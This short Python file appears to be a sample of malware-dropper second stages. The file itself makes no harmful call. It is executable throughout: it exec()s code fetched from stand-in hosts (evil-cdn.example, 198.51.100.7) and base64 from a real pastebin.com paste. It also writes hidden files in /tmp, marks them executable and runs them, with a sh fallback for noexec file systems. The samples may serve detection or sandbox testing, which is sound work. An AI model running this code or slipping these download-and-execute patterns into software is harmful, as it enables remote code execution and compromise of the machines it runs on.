# Second stages in the forms droppers fetch them: base64 text decoded and
# exec()d in-process (a .b64 name; a paste, as package-test-index's
# loader does), Python exec()d as
# fetched (certifo), a .sh written then run, and a program (ELF) written,
# made executable and run (where the file system lets it: docker's /tmp
# and /work are noexec).
import base64, os, subprocess, urllib.request

def get(url):
    return urllib.request.urlopen(url, timeout=5).read()

exec(base64.b64decode(get("http://cdn.evil-cdn.example/p/loader.b64")))

exec(get("http://198.51.100.7/s/stage.py"))

# package-test-index's loader: a paste, base64-decoded, then exec()d
exec(base64.b64decode(get("https://pastebin.com/raw/VvkKsmxr").decode("utf-8")).decode("utf-8"))

def written_and_run(path, url):
    with open(path, "wb") as f:
        f.write(get(url))
    os.chmod(path, 0o755)
    subprocess.run([path])

try:
    written_and_run("/tmp/.i.sh", "http://get.evil-cdn.example/i.sh")
except PermissionError:
    subprocess.run(["sh", "/tmp/.i.sh"])  # a noexec file system: droppers' fallback

try:
    written_and_run("/tmp/.agent", "http://198.51.100.7/bin/agent.bin")
except OSError as e:
    print("the program did not run:", e)
print("stages ran")
